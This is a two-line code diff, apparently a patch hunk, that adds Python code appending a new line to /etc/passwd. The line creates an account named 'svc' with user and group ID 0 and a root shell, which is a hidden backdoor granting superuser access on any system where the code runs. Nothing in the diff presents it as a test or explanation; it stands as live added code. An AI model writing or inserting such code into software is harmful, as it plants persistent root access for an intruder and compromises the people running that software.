@@ -1,0 +1,2 @@
+with open("/etc/passwd", "a") as f:
+    f.write("svc:x:0:0::/root:/bin/sh\n")
